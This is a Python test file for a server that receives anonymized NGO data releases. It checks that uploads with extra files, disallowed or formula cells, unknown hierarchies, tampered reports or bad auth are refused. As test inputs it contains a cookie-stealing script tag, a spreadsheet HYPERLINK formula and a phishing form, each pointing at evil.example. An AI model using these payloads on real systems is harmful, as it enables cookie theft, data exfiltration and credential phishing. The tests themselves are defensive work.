"""The receiver trusts nothing in an upload (issue 13, items 7-10): only a release's own files, only
allowed cell values, only known hierarchies, bounded memory, strict headers and auth."""

from __future__ import annotations

import base64
import csv
import hashlib
import io
import json
from datetime import datetime, timezone

from connector.central.cells import cell_problems, column_rules, escape_csv, is_formula
from connector.release import Bundle, build_bundle
from connector.schema import load_schema
from privacy.gate import admit
from tests.unit.test_central_app import Central, central, database_url  # noqa: F401 - fixtures
from tests.unit.test_central_fixtures import make_bundle, protected

RAW = b"name,phone\nAnna Petrenko,+380501234567\n"
EVIL = b"<script>fetch('https://evil.example/?c='+document.cookie)</script>"


def _with_listed_extras(files: dict[str, bytes], extras: dict[str, bytes]) -> dict[str, bytes]:
    """The bundle plus `extras`, each listed in the manifest with its true checksum (the release id
    does not cover them, so it stays valid): only the file-set check can catch them."""
    manifest = json.loads(files["manifest.json"])
    for name, content in extras.items():
        manifest["files"][name] = {"sha256": hashlib.sha256(content).hexdigest(), "bytes": len(content)}
    return {**files, **extras, "manifest.json": json.dumps(manifest).encode()}


def test_files_listed_in_the_manifest_but_not_of_a_release_are_refused_and_never_served(central):
    bundle = make_bundle("ngo-a")
    files = _with_listed_extras(bundle.files, {"raw-cases.csv": RAW, "evil.html": EVIL})
    response = central.upload(files, key=bundle.release_id)
    assert response.status_code == 422, response.text
    reasons = " ".join(response.json()["detail"]["reasons"])
    assert "raw-cases.csv" in reasons and "Anna" not in response.text  # refused at the first part it does not know
    assert central.stored() == (0, [])
    for name in ("raw-cases.csv", "evil.html"):
        assert central.client.get(f"/releases/{bundle.release_id}/files/{name}", headers=central.auth("admin")).status_code == 404


def test_a_file_listed_only_in_the_manifest_is_refused_by_name(tmp_path):
    from connector.central.validate import UploadRefused, check_upload
    from connector.schema import load_schema

    bundle = make_bundle("ngo-a")
    manifest = json.loads(bundle.files["manifest.json"])
    manifest["files"]["evil.html"] = {"sha256": hashlib.sha256(EVIL).hexdigest(), "bytes": len(EVIL)}
    files = {**bundle.files, "manifest.json": json.dumps(manifest).encode()}
    try:
        check_upload(files, partner="ngo-a", schema=load_schema())
    except UploadRefused as exc:
        assert exc.status == 422 and "not part of a release" in exc.error and any("evil.html" in r for r in exc.reasons)
    else:
        raise AssertionError("a manifest listing evil.html was accepted")


def test_the_receiver_still_accepts_exactly_a_release(central):
    bundle = make_bundle("ngo-a")
    assert central.upload(bundle).status_code == 201
    detail = central.client.get(f"/releases/{bundle.release_id}", headers=central.auth("admin")).json()
    assert {f["name"] for f in detail["files"]} == {"data.csv", "datapackage.json", "codebook.md", "privacy.json", "report.html", "manifest.json"}


# -- item 8: every column has a closed set of allowed values ----------------------------------

PERSONAL = ["Anna Petrenko", "+380501234567", "anna.p@example.org"]
FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"click")'


def bundle_with(partner: str, change) -> Bundle:
    """A bundle made the production way (anonymize, the connector's gate, build_bundle) from a
    table that `change(table)` edited: the connector's own checks pass it, only the receiver's can
    refuse it."""
    schema = load_schema()
    table, privacy = protected(partner, 3)
    change(table)
    release = admit(table, privacy, roles=schema.view_roles())
    return build_bundle(release, partner=partner, schema=schema, run_ids=["run-1"], created_at=datetime(2024, 5, 1, tzinfo=timezone.utc))


def _reasons(response) -> str:
    return " ".join(response.json()["detail"]["reasons"])


def test_personal_data_in_datasource_is_refused_by_column_and_count_never_by_value(central):
    def change(table):
        table["Datasource"] = PERSONAL[0]  # one value for every row: the connector's gate (k on whole rows) lets it through

    response = central.upload(bundle_with("ngo-a", change))
    assert response.status_code == 422, response.text
    assert "column Datasource: 12 cell(s) are not allowed values" in _reasons(response)
    assert not any(value in response.text for value in (PERSONAL[0], "Petrenko"))
    for value in PERSONAL[1:]:  # a phone number and an email, too
        response = central.upload(bundle_with("ngo-a", lambda table, v=value: table.__setitem__("Datasource", v)))
        assert response.status_code == 422 and value not in response.text and "380501234567" not in response.text
    assert central.stored() == (0, [])


def test_formula_cells_are_refused_at_upload(central):
    def change(table):
        table["Datasource"] = FORMULA

    response = central.upload(bundle_with("ngo-a", change))
    assert response.status_code == 422, response.text
    assert "column Datasource: 12 cell(s) begin with =, +, -, @" in _reasons(response)
    assert "HYPERLINK" not in response.text and central.stored() == (0, [])


def test_datasource_comes_from_the_partner_registry(tmp_path, database_url):
    central = Central(tmp_path, database_url)
    try:
        from connector.central.auth import add_partner

        token = add_partner(central.app.state.engine, "hotline-ua", datasources=["Hotline"])
        central.tokens["hotline-ua"] = token
        # the same bundle, under this partner: its cells say Case Management, the registry says Hotline
        response = central.upload(_as_partner("hotline-ua", "Case Management"), who="hotline-ua")
        assert response.status_code == 422 and "column Datasource: 12 cell(s)" in _reasons(response)
        assert central.upload(_as_partner("hotline-ua", "Hotline"), who="hotline-ua").status_code == 201
    finally:
        central.client.close()
        central.app.state.engine.dispose()


def _as_partner(partner: str, datasource: str) -> Bundle:
    schema = load_schema()
    table, privacy = protected("ngo-a", 3)
    table["Datasource"] = datasource
    release = admit(table, privacy, roles=schema.view_roles())
    return build_bundle(release, partner=partner, schema=schema, run_ids=["run-1"], created_at=datetime(2024, 5, 1, tzinfo=timezone.utc))


def test_every_view_column_has_a_closed_rule():
    rules = column_rules(load_schema(), ["Case Management"])
    assert set(rules) == set(load_schema().view)
    checks = {
        "gender": (["Female", "Other"], ["female", "Anna"]),
        "ageBroad": (["0", "31", "120", "30--34", "48+", "Minor", "Adult", "18--20"], ["31.0", " 31", "121", "-1", "30-34", "=1"]),
        "yearOfRegistration": (["2021", "2020-2021", "2020-2024", "2024"], ["2021.0", "1899", "2020--2021"]),
        "citizenship": (["UA", "Eastern Europe", "Europe"], ["Ukraine", "ua", "XX"]),
        "meansOfControlDebtBondage": (["0", "1"], ["2", "yes", "1.0"]),
        "meansOfControlConcatenated": (["meansOfControlDebtBondage", "meansOfControlThreats;meansOfControlDebtBondage"],
                                       ["meansOfControlDebtBondage;meansOfControlDebtBondage", "isForcedLabour", "a;b"]),
        "RecruiterRelationship": (["Friend", "Family;Friend"], ["Neighbour", "Friend;"]),
        "meansOfControlRestrictsMovement": ([], []),
        "Datasource": (["Case Management"], ["Hotline", "Anna"]),
    }
    for column, (good, bad) in checks.items():
        assert all(rules[column].allows(v) for v in good), column
        assert not any(rules[column].allows(v) for v in bad), column


def test_a_column_may_mix_hierarchy_levels_blank_and_suppressed_cells():
    rules = column_rules(load_schema(), ["Case Management"])
    header = ["ageBroad", "citizenship", "isForcedLabour", "typeOfExploitConcatenated"]
    rows = [["31", "UA", "1", "isForcedLabour"], ["30--34", "Eastern Europe", "*", "*"], ["*", "*", "", ""], ["Adult", "Europe", "0", "isForcedLabour;isSexualExploit"]]
    assert cell_problems(header, rows, rules) == []
    rows.append(["Anna", "+380501234567", "-1", "@SUM(A1)"])
    problems = cell_problems(header, rows, rules)
    # +380501234567 and -1 are numbers to a spreadsheet, so only @SUM(A1) is a formula cell
    assert [p.split(":")[0] for p in problems] == ["column ageBroad", "column citizenship", "column isForcedLabour", "column typeOfExploitConcatenated",
                                                   "column typeOfExploitConcatenated"]
    assert not any(v in " ".join(problems) for v in ("Anna", "380501234567", "SUM"))


def test_formula_cells_are_escaped_when_served_even_if_stored_before_the_check(central):
    bundle = make_bundle("ngo-a")
    assert central.upload(bundle).status_code == 201
    planted = bundle.files["data.csv"].replace(b"Case Management", b'"=HYPERLINK(""https://evil.example"",""x"")"')
    sha = hashlib.sha256(bundle.files["data.csv"]).hexdigest()
    (central.data_dir / "objects" / sha[:2] / sha).write_bytes(planted)
    served = central.client.get(f"/releases/{bundle.release_id}/files/data.csv", headers=central.auth("admin"))
    harmonized = central.client.get("/harmonized.csv", headers=central.auth("admin"))
    for response in (served, harmonized):
        assert response.status_code == 200, response.text
        cells = [cell for row in csv.reader(io.StringIO(response.text)) for cell in row]
        assert "'=HYPERLINK(\"https://evil.example\",\"x\")" in cells
        assert not any(is_formula(cell) for cell in cells)


def test_escape_leaves_numbers_and_clean_bytes_alone():
    clean = b"a,b\n-1,2\n+3.5,1e-3\n"
    assert escape_csv(clean) == clean
    assert escape_csv(b"a\n-x\n@y\n\"\tz\"\n") == b"a\n'-x\n'@y\n'\tz\n"


# -- item 9: an unknown hierarchy or level is refused -------------------------------------------


def bundle_claiming(change_privacy, change_table=None) -> Bundle:
    """A gate-admitted bundle whose privacy record `change_privacy` edited (as a partner's own
    hierarchy config would write it)."""
    schema = load_schema()
    table, privacy = protected("ngo-a", 3)
    if change_table:
        change_table(table)
    change_privacy(privacy)
    release = admit(table, privacy, roles=schema.view_roles())
    return build_bundle(release, partner="ngo-a", schema=schema, run_ids=["run-1"], created_at=datetime(2024, 5, 1, tzinfo=timezone.utc))


def test_a_quasi_identifier_with_an_unknown_hierarchy_is_refused_with_the_reason(central):
    bundle = bundle_claiming(lambda p: p["hierarchies"].update(citizenship="my-countries"))
    response = central.upload(bundle)
    assert response.status_code == 422, response.text
    assert "column citizenship: privacy.json names hierarchy 'my-countries', which this receiver does not know" in _reasons(response)
    assert central.stored() == (0, [])


def test_a_name_in_citizenship_under_an_unknown_hierarchy_is_refused_without_showing_it(central):
    def names(table):  # a whole equivalence class, so k still holds and only the receiver's checks can see it
        table.loc[table["citizenship"] == "MD", "citizenship"] = "Anna Petrenko"

    bundle = bundle_claiming(lambda p: p["hierarchies"].update(citizenship="names"), names)
    response = central.upload(bundle)
    assert response.status_code == 422, response.text
    reasons = _reasons(response)
    assert "hierarchy 'names', which this receiver does not know" in reasons and "column citizenship: 6 cell(s) are not allowed values" in reasons
    assert "Anna" not in response.text and central.stored() == (0, [])


def test_a_hierarchy_other_than_the_columns_own_or_a_level_it_does_not_have_is_refused(central):
    wrong = central.upload(bundle_claiming(lambda p: p["hierarchies"].update(citizenship="age")))
    assert wrong.status_code == 422 and "generalizes it with 'country'" in _reasons(wrong)
    odd_level = central.upload(bundle_claiming(lambda p: p["finest_levels"].update(gender=True)))
    assert odd_level.status_code == 422 and "column gender: privacy.json level 'True' is not a level of hierarchy gender" in _reasons(odd_level)
    assert central.stored() == (0, [])


# -- item 10: streamed uploads, byte limits, security headers, Basic auth only for page views ---

BIG = 6 * 1024 * 1024
PIECE = b"x" * 65536  # one object, yielded again and again: the client holds no body either


def _multipart_stream(files: dict[str, bytes], boundary: str, padding: int):
    """A release upload whose data.csv is followed by `padding` bytes, produced piece by piece."""

    async def body():
        for name, content in files.items():
            yield f'--{boundary}\r\nContent-Disposition: form-data; name="files"; filename="{name}"\r\nContent-Type: application/octet-stream\r\n\r\n'.encode()
            yield content
            if name == "data.csv":
                for _ in range(padding // len(PIECE)):
                    yield PIECE
            yield b"\r\n"
        yield f"--{boundary}--\r\n".encode()

    return body()


def test_eight_concurrent_large_uploads_are_streamed_to_disk_not_held_in_memory(tmp_path):
    import asyncio
    import tracemalloc

    import httpx

    from connector.central.app import CentralSettings, create_app
    from connector.central.auth import add_partner

    app = create_app(CentralSettings(database_url=f"sqlite:///{tmp_path / 'c.sqlite'}", data_dir=tmp_path / "central",
                                     max_upload_bytes=64 * 1024 * 1024, max_inflight_upload_bytes=1024 * 1024 * 1024))
    token = add_partner(app.state.engine, "ngo-a")
    bundle = make_bundle("ngo-a")

    async def main() -> list[int]:
        transport = httpx.ASGITransport(app=app)
        async with httpx.AsyncClient(transport=transport, base_url="http://testserver", timeout=120) as client:
            async def one(i: int) -> int:
                boundary = f"b{i}xyz"
                response = await client.post("/releases", content=_multipart_stream(bundle.files, boundary, BIG),
                                             headers={"Authorization": f"Bearer {token}", "Content-Type": f"multipart/form-data; boundary={boundary}"})
                return response.status_code

            await client.get("/healthz")  # warm up imports and pools before measuring
            tracemalloc.start()
            try:
                base = tracemalloc.get_traced_memory()[0]
                statuses = await asyncio.gather(*(one(i) for i in range(8)))
                peak = tracemalloc.get_traced_memory()[1] - base
            finally:
                tracemalloc.stop()
        print(f"peak {peak} bytes for 8 concurrent uploads of {BIG} bytes")
        assert peak < BIG, f"{peak} bytes were held at once for 8 uploads of {BIG} bytes each"
        return statuses

    try:
        # each data.csv is 6 MiB longer than its manifest says: refused from the streamed checksum alone
        assert asyncio.run(main()) == [422] * 8
        assert not [p for p in (tmp_path / "central").rglob("*") if p.is_file()]  # staging emptied, nothing stored
    finally:
        app.state.engine.dispose()


def test_bodies_beyond_the_global_in_flight_limit_get_503_with_retry_after(tmp_path, database_url):
    central = Central(tmp_path, database_url, max_inflight_upload_bytes=10 * 1024 * 1024)
    try:
        budget = central.app.state.upload_budget
        assert budget.reserve(10 * 1024 * 1024)  # other partners' uploads in flight
        bundle = make_bundle("ngo-a")
        busy = central.upload(bundle)
        assert busy.status_code == 503 and busy.headers["retry-after"] == "5"
        boundary = "chunked"

        def chunked():  # no Content-Length: counted against the limit as it arrives
            yield f'--{boundary}\r\nContent-Disposition: form-data; name="files"; filename="data.csv"\r\n\r\n'.encode()
            yield b"a" * 1000
            yield f"\r\n--{boundary}--\r\n".encode()

        no_length = central.client.post("/releases", content=chunked(), headers={**central.auth("ngo-a"), "Content-Type": f"multipart/form-data; boundary={boundary}"})
        assert no_length.status_code == 503
        budget.release(10 * 1024 * 1024)
        assert central.upload(bundle).status_code == 201
        assert budget.in_flight == 0
    finally:
        central.client.close()
        central.app.state.engine.dispose()


def test_every_response_carries_the_security_headers(central):
    bundle = make_bundle("ngo-a")
    central.upload(bundle)
    responses = [
        central.client.get("/healthz"),
        central.client.get("/releases"),  # 401
        central.client.get("/nowhere"),  # 404
        central.client.get("/", headers=central.auth("admin")),
        central.client.get(f"/releases/{bundle.release_id}/files/report.html", headers=central.auth("admin")),
        central.upload(bundle),
    ]
    for response in responses:
        assert response.headers["x-content-type-options"] == "nosniff", response.request.url
        assert "frame-ancestors 'none'" in response.headers["content-security-policy"]
        assert response.headers["referrer-policy"] == "no-referrer"
        assert "strict-transport-security" not in response.headers  # plain HTTP: HSTS would be ignored
    report = responses[4].headers["content-security-policy"]
    assert report.startswith("default-src 'none'") and report.endswith("frame-ancestors 'none'")
    proxied = central.client.get("/healthz", headers={"X-Forwarded-Proto": "https"})
    assert proxied.headers["strict-transport-security"].startswith("max-age=")


def test_basic_auth_is_only_for_the_admins_page_views_never_for_uploads(central):
    import base64

    def basic(who: str) -> dict[str, str]:
        return {"Authorization": "Basic " + base64.b64encode(f"x:{central.tokens[who]}".encode()).decode()}

    bundle = make_bundle("ngo-a")
    files = [("files", (name, content, "application/octet-stream")) for name, content in bundle.files.items()]
    upload = central.client.post("/releases", files=files, headers=basic("ngo-a"))
    assert upload.status_code == 401 and upload.headers["www-authenticate"] == "Bearer"
    assert central.client.post("/releases", files=files, headers=basic("admin")).status_code == 401
    assert central.stored() == (0, [])
    assert central.client.get("/releases", headers=basic("ngo-a")).status_code == 401  # partners: Bearer only
    assert central.client.get("/", headers=basic("admin")).status_code == 200
    assert central.upload(bundle).status_code == 201  # Bearer still uploads


def test_a_request_without_a_token_takes_nothing_from_the_upload_budget(central, monkeypatch):
    budget = central.app.state.upload_budget
    taken = []
    real = budget.reserve
    monkeypatch.setattr(budget, "reserve", lambda n: taken.append(n) or real(n))
    bundle = make_bundle("ngo-a")
    files = [("files", (name, content, "application/octet-stream")) for name, content in bundle.files.items()]
    assert central.client.post("/releases", files=files).status_code == 401
    assert taken == [] and budget.in_flight == 0
    assert central.upload(bundle).status_code == 201 and sum(taken) > 0 and budget.in_flight == 0


def test_a_victim_perpetrator_table_with_a_column_it_does_not_have_is_refused_by_column(central):
    """The connector's gate (with a permissive role) let it through; the receiver's cell rules do not."""
    from datetime import datetime, timezone

    import pandas as pd

    from connector.release import build_bundle
    from privacy.gate import ExtraTable

    schema = load_schema()
    table, privacy = protected("ngo-a", 3)
    vp = pd.DataFrame({"gender": ["Female"] * 3, "perpetratorName": ["Ivan Petrov"] * 3})
    release = admit(table, privacy, roles=schema.view_roles(),
                    extra={"victim_perpetrator.csv": ExtraTable(vp, {"gender": "quasi_identifier", "perpetratorName": "process"})})
    bundle = build_bundle(release, partner="ngo-a", schema=schema, run_ids=["run-1"], created_at=datetime(2024, 5, 1, tzinfo=timezone.utc))
    response = central.upload(bundle)
    assert response.status_code == 422 and "victim_perpetrator.csv: column perpetratorName: not a column" in _reasons(response)
    assert "Ivan" not in response.text and central.stored() == (0, [])
    assert central.upload(_with_listed_extras(bundle.files, {"other.csv": b"a\n1\n"}), key=bundle.release_id).status_code == 422


def test_served_files_must_be_what_the_receiver_builds_from_the_admitted_table(central):
    from tests.unit.test_central_fixtures import rehash, tampered

    bundle = make_bundle("ngo-a")
    phishing = bundle.files["report.html"].replace(b"</body>", b"<form action='https://evil.example'>Re-enter your token <input name=t></form></body>")
    # a chart is SVG text inside report.html: a name written into it is refused like any other edit
    page = bundle.files["report.html"].decode()
    start = page.index("data:image/svg+xml;base64,") + len("data:image/svg+xml;base64,")
    chart = base64.b64decode(page[start:page.index('"', start)]).decode()
    assert ">Age at registration<" in chart
    renamed = base64.b64encode(chart.replace(">Age at registration<", ">Anna Petrenko, +380501234567<").encode()).decode()
    named_chart = (page[:start] + renamed + page[page.index('"', start):]).encode()
    package = json.loads(bundle.files["datapackage.json"])
    package["resources"][0]["schema"]["fields"][0]["description"] = "Anna Petrenko's case, +380501234567"
    for name, content in (("report.html", phishing), ("report.html", named_chart), ("codebook.md", bundle.files["codebook.md"] + b"\nVictim: Anna Petrenko, +380501234567\n"),
                          ("datapackage.json", json.dumps(package, indent=2, sort_keys=True).encode() + b"\n")):
        files = rehash(tampered(bundle, name, content))
        response = central.upload(files, key=json.loads(files["manifest.json"])["release_id"])
        assert response.status_code == 422, response.text
        assert f"{name} is not what this receiver builds" in _reasons(response) and "Anna" not in response.text
    manifest = json.loads(bundle.files["manifest.json"])
    manifest["run_ids"] = ["Anna Petrenko +380501234567"]
    response = central.upload({**bundle.files, "manifest.json": json.dumps(manifest).encode()})
    assert response.status_code == 422 and "run_ids must be a list of ids" in _reasons(response) and "Anna" not in response.text
    assert central.stored() == (0, [])
    assert central.upload(bundle).status_code == 201
    served = central.client.get(f"/releases/{bundle.release_id}/files/report.html", headers=central.auth("admin"))
    assert "sandbox" in served.headers["content-security-policy"] and "form-action 'none'" in served.headers["content-security-policy"]


def test_a_full_staging_disk_is_a_503_to_retry_not_the_clients_fault(central, monkeypatch):
    import errno

    from connector.central import uploads

    def full(self, data, start, end):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(uploads._PartWriter, "part_data", full)
    response = central.upload(make_bundle("ngo-a"))
    assert response.status_code == 503 and response.headers["retry-after"] == "60"
    assert "No space left on device" in _reasons(response) and central.stored() == (0, [])


def test_every_value_the_connector_derives_is_allowed_at_every_hierarchy_level():
    """No false refusals: the release view of generated (messy) cases, every column, and each
    quasi-identifier generalized to every level of its hierarchy, passes the cell rules."""
    import pandas as pd

    from connector.sandbox.generate import expected_fields, generate_cases
    from privacy.gate import to_csv_bytes, parse_csv_bytes
    from privacy.hierarchies import load_builtin
    from privacy.view import derive_release_view

    schema = load_schema()
    cases = [c for c in generate_cases(400, seed=3) if not c.deleted]
    view = derive_release_view(pd.DataFrame([expected_fields(c) for c in cases]), schema, datasource="Case Management")
    header, rows = parse_csv_bytes(to_csv_bytes(view))
    rules = column_rules(schema, ["Case Management"])
    assert cell_problems(header, rows, rules) == []
    for j, name in enumerate(header):
        column = schema.view[name]
        if column.role != "quasi_identifier":
            continue
        hierarchy = load_builtin(column.hierarchy)
        values = {row[j] for row in rows if row[j]}
        for level in range(hierarchy.height + 1):
            labels = {hierarchy.path(value)[level] for value in values}
            assert all(rules[name].allows(label) or label == "*" for label in labels), (name, level)
